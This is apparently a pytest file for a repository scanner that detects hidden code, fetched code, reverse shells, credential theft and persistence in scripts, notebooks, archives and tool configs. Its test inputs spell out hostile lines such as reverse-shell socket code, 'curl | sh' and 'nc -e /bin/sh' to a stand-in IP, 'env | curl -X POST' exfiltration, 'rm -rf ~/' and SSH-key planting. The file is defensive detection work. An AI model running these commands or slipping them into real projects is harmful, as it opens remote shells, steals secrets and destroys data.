"""Scripts that no loader runs: what is hidden counts, not what is done."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
from evals.repositories import honest_scripts
from evals.repositories.hostile import STATEMENTS
from evals.repositories.samples import MARK
from repository_scanning import findings_of, rules_of

from weighbridge.findings.model import Kind

HIDDEN = {
    "base64-exec": "hidden-code",
    "marshal": "hidden-code",
    "getattr": "hidden-code",
    "fetch-exec": "fetched-code",
    "urlopen-exec": "fetched-code",
    "reverse-shell": "reverse-shell",
    "environment": "credential-theft",
    "ssh-key": "credential-theft",
    "hub-upload": "credential-theft",
    "bashrc": "persistence",
    "cron": "hostile-command",
    "pipe-to-shell": "hostile-command",
}


@pytest.mark.parametrize("name", HIDDEN)
def test_what_no_honest_script_does(name: str) -> None:
    text = STATEMENTS[name]
    found = [one for one in findings_of(text.replace(MARK, ""), "x.py") if one.rule == HIDDEN[name]]
    lines = [number for number, line in enumerate(text.split("\n"), 1) if MARK in line]
    assert len(found) == 1 and found[0].evidence["line"] in lines


@pytest.mark.parametrize("name", honest_scripts.TRAINING)
def test_what_honest_scripts_do(name: str) -> None:
    assert findings_of(honest_scripts.TRAINING[name], "train.py") == []


@pytest.mark.parametrize(
    "shell",
    [
        'subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())',
        "os.dup2(s.fileno(), 0); subprocess.call(program)",
        'pty.spawn("/bin/bash")',
        'subprocess.Popen("cmd.exe", stdin=subprocess.PIPE, stdout=subprocess.PIPE)',
        'os.execve("/bin/bash", ["bash", "--norc"], os.environ)',
        'subprocess.Popen(["powershell", "-NoP", "-NonI", "-NoExit"], stdin=s)',
        'subprocess.Popen(["cmd", "/q", "/K"], stdin=s)',
    ],
)
def test_a_shell_for_whoever_is_connected_to(shell: str) -> None:
    imports = "import os, pty, socket, subprocess"
    connected = "s = socket.socket()\ns.connect(('192.0.2.1', 9))"
    assert "reverse-shell" in rules_of(f"{imports}\n{connected}\n{shell}\n", "x.py")


@pytest.mark.parametrize(
    "words",
    [["bash", "-lc", "make"], ["sh", "-c", "ls"], ["bash", "train.sh"], ["/bin/sh", "/opt/run.sh"],
     ["powershell", "-NoP", "-File", "build.ps1"], ["cmd", "/c", "dir"], ["zsh", "-ic", "env"]],
)  # fmt: skip
def test_a_shell_that_is_told_what_to_do_reads_nothing_else(words: list[str]) -> None:
    connected = "import socket, subprocess\nsocket.create_connection(('192.0.2.1', 9))"
    assert "reverse-shell" not in rules_of(f"{connected}\nsubprocess.run({words})\n", "x.py")


def test_what_two_scripts_of_one_archive_do_is_not_joined() -> None:
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("a.py", "import socket\nsocket.create_connection(('192.0.2.1', 9))\n")
            archive.writestr("b.py", "import pty\npty.spawn('/bin/sh')\n")
        assert rules_of(file.getvalue(), "x.zip") == set()


@pytest.mark.parametrize("name", honest_scripts.SHELL)
def test_honest_shell_scripts(name: str) -> None:
    assert findings_of(honest_scripts.SHELL[name], name) == []


@pytest.mark.parametrize(
    "line",
    [
        "curl http://192.0.2.1/x | sh",
        "bash -c \"$(curl -fsSL http://192.0.2.1/x)\"",
        "echo aWQ= | base64 --decode | bash",
        "nc -e /bin/sh 192.0.2.1 4444",
        "exec 5<>/dev/tcp/192.0.2.1/4444",
        "env | curl -X POST -d @- http://192.0.2.1",
        "rm -rf ~/",
        "wget -q http://192.0.2.1/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
    ],
)  # fmt: skip
def test_lines_of_a_shell(line: str) -> None:
    assert rules_of(f"#!/bin/sh\nset -e\n{line}\n", "run.sh") == {"hostile-command"}
    assert rules_of(f"import os\nos.system({line!r})\n", "run.py") == {"hostile-command"}


def test_a_program_from_a_named_host_is_suspicious() -> None:
    (found,) = findings_of("curl https://get.example.org/x | sh\n", "run.sh")
    assert found.kind == "suspicious"


def test_one_cause_is_one_finding() -> None:
    text = "import base64\nexec(base64.b64decode(a))\nexec(base64.b64decode(b))\n"
    (found,) = findings_of(text, "x.py")
    assert found.evidence["lines"] == [2, 3]


@pytest.mark.parametrize(
    ("cell", "rule"),
    [
        ("x = !wget -qO- http://192.0.2.1/a | bash", "hostile-command"),
        ("x, y = %sx curl http://192.0.2.1/a | sh", "hostile-command"),
        ("get_ipython().system('curl http://192.0.2.1/a | sh')", "hostile-command"),
        ("%%writefile ~/.ssh/authorized_keys\nssh-rsa AAAA", "persistence"),
        ("%%writefile x.py\nimport base64\nexec(base64.b64decode('eA=='))", "hidden-code"),
    ],
)
def test_what_ipython_hands_to_a_shell_or_writes(cell: str, rule: str) -> None:
    assert rules_of(_notebook(cell), "x.ipynb") == {rule}


@pytest.mark.parametrize(
    "cell",
    [
        "gpu = !nvidia-smi",
        "files = !ls *.pt\nif a != 3:\n    b = a != 4",
        "get_ipython().system('pip install torch')",
        "%%writefile train.py\nimport os\nos.makedirs('out')",
    ],
)
def test_what_notebooks_of_ipython_do_every_day(cell: str) -> None:
    assert findings_of(_notebook(cell), "x.ipynb") == []


def _notebook(cell: str) -> str:
    code = {"cell_type": "code", "source": cell, "metadata": {}, "outputs": []}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [code]})


def test_letters_that_are_not_ascii_hide_no_word() -> None:
    named = 'exec("def f(caf" + chr(0xE9) + "=1): pass", names)'
    spelled = 'exec(chr(105) + "mport os", names)'
    assert findings_of(named, "x.py") == []
    assert rules_of(spelled, "x.py") == {"hidden-code"}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("MLproject", "entry_points:\n  main:\n    command: {command}\n"),
        (".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - entry: {command}\n"),
        ("docker-compose.yml", "services:\n  x:\n    command: {command}\n"),
    ],
)
def test_commands_in_the_configuration_of_tools(name: str, text: str) -> None:
    hostile = text.format(command="bash -c 'curl http://192.0.2.1/x | sh'")
    (found,) = findings_of(hostile, name)
    assert found.rule == "hostile-command"
    assert "curl" in hostile.split("\n")[found.evidence["line"] - 1]
    honest = text.format(command="python train.py --epochs 3")
    assert findings_of(honest, name) == []


FUNC_LOAD = """
import codecs, marshal, types
def func_load(code):
    raw = codecs.decode(code.encode("ascii"), "base64")
    return types.FunctionType(marshal.loads(raw), globals())
"""


def test_a_function_that_makes_functions_of_what_it_is_given_is_suspicious() -> None:
    """Keras and TensorFlow have it; what it is given stands elsewhere."""
    (found,) = findings_of(FUNC_LOAD, "python_utils.py")
    assert (found.rule, found.kind) == ("hidden-code", Kind.SUSPICIOUS)


def test_one_that_is_given_something_here_is_malicious() -> None:
    text = f'{FUNC_LOAD}func_load("4wAAAAAAAAAAAAAAAAAAAAA=")()\n'
    assert [one.kind for one in findings_of(text, "x.py")] == [Kind.MALICIOUS]
    text = FUNC_LOAD + "exec(marshal.loads(codecs.decode(open('w.bin', 'rb').read(), 'base64')))\n"
    assert Kind.MALICIOUS in [one.kind for one in findings_of(text, "x.py")]
